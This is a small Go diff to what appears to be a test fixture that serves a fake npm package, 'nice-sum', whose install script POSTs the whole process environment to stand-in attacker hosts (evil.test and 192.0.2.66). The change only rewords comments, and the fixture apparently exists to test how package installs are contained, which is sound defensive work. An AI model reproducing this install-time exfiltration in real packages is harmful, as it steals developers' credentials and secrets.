@@ -9,7 +9,8 @@ import (
 	"fmt"
 )
 
-// npm is a registry with one package, whose install script sends home what it finds.
+// npm is a registry with one package, whose install script tries to send the environment to
+// an attacker.
 func npm() (handler string) {
 	const steal = `for (const to of ['https://evil.test/', 'http://192.0.2.66/']) fetch(to, { method: 'POST', body: JSON.stringify(process.env) })
   .then(() => console.log('nice-sum: sent your environment to ' + to), e => console.log('nice-sum: ' + to + ' can\'t be reached: ' + e.cause.code))`
@@ -21,7 +22,7 @@ func npm() (handler string) {
 		"package/index.js":     "module.exports = (a, b) => a + b",
 		"package/steal.js":     steal,
 	} {
-		// Nothing here can fail: a buffer takes everything.
+		// Writes to a buffer can't fail.
 		w.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(text))})
 		w.Write([]byte(text))
 	}
